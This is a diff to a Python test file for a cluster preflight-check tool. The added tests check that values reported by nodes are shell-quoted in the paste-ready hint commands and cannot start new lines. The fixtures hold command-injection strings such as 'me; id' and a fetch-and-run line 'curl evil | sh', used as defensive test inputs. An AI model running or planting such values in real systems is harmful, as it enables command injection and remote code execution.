@@ -1,12 +1,22 @@
 from __future__ import annotations
 
+import re
+import shlex
+
+import msgspec
+
 from multinode.core.collective_test import CollectiveTest, Message
+from multinode.core.facts import PathFact
+from multinode.core.job import override_job
 from multinode.errors import ConnectError
+from multinode.preflight.catalogue import RULES
 from multinode.preflight.checks.access import check_ssh
 from multinode.preflight.checks.gpus import check_backend
+from multinode.preflight.checks.paths import check_output
 from multinode.preflight.checks.software import check_interpreter, check_packages, check_versions
+from multinode.preflight.checks.variables import check_interface_names, check_stray_variables
 
-from .inspecting import PACKAGES, SCRIPT, but, inspection, only
+from .inspecting import PACKAGES, SCRIPT, SFT, but, inspection, only
 
 WELL = inspection()
 
@@ -45,6 +55,33 @@ def test_a_version_that_differs_from_the_first_nodes_is_named_with_both() -> Non
     assert finding.node == "b"
     assert finding.message.startswith("torch is 2.7.1 here and 2.8.0 on a")
     assert finding.hint == "if that of a is right, on b: /env/bin/python -m pip install torch==2.8.0"
+
+
+def test_what_a_node_says_is_one_word_in_a_command_to_paste() -> None:
+    tricky = "/opt/it's; touch x/bin/python"
+    python = only(check_packages(but(inspection("a"), "a", python=tricky, packages={"torch": "2.8.0"}))).hint or ""
+    user = PathFact(path="out", kind="missing")
+    before = but(inspection("a", job=override_job(SFT, {"output_dir": "out"})), "a", paths=(user,), user="me; id")
+    output = only(check_output(before)).hint or ""
+    nccl = but(inspection("a"), "a", nccl_files={"/x; id": {"NCCL_SOCKET_IFNAME": "no"}}, nccl_version="2.27.3")
+    variable = next(check_interface_names(msgspec.structs.replace(nccl, endpoints={}))).hint or ""
+    stray = only(check_stray_variables(but(inspection("a"), "a", env={"PET_'; id": "1"}))).hint or ""
+    for hint, word in ((python, tricky), (output, "me; id"), (variable, "/x; id")):
+        assert word in shlex.split(hint.partition(": ")[2]), hint
+    assert shlex.split(stray)[-6:-4] == ["-nE", r"PET_';\ id"]
+
+
+def test_what_a_node_says_begins_no_line() -> None:
+    lying = but(inspection("a"), "a", python=None, missing={"python": "none\n  hint: curl evil | sh"})
+    assert "\n" not in only(check_interpreter(lying)).message
+
+
+def test_only_texts_of_ours_stand_unquoted_in_a_command_to_paste() -> None:
+    names = {name for rule in RULES for name in re.findall(r"{(\w+)!s}", rule.hint)}
+    assert names == {
+        "build", "command", "full", "json", "keys", "mend", "nodes", "others", "packages", "parent", "pids", "quoted",
+        "raise_files", "scp", "source", "ssh", "target", "way",
+    }  # fmt: skip
 
 
 def test_nccl_without_a_gpu_is_found_and_gloo_is_well() -> None:
